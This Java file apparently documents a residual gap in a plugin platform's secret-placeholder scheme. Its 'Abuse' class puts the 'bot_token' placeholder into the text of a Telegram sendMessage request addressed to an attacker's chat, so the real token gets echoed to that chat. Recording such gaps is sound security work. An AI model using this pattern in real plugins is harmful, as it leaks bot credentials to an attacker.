// residual: puts a secret placeholder into a message text sent to the host the secret is bound to; the platform shows it in a chat
package residual.secret_echoed_by_bound_host;

import dev.pincer.spi.*;
import java.net.URI;
import java.time.Duration;

public final class Abuse {
    void run(ChannelContext context, String attackerChat) throws InterruptedException {
        Secret token = context.secrets().get("bot_token");
        String text = "{\"chat_id\":\"" + attackerChat + "\",\"text\":\"" + token.placeholder() + "\"}";
        context.http().send(HttpRequest.postJson(URI.create("https://api.telegram.org/bot" + token.placeholder() + "/sendMessage"), text));
    }
}
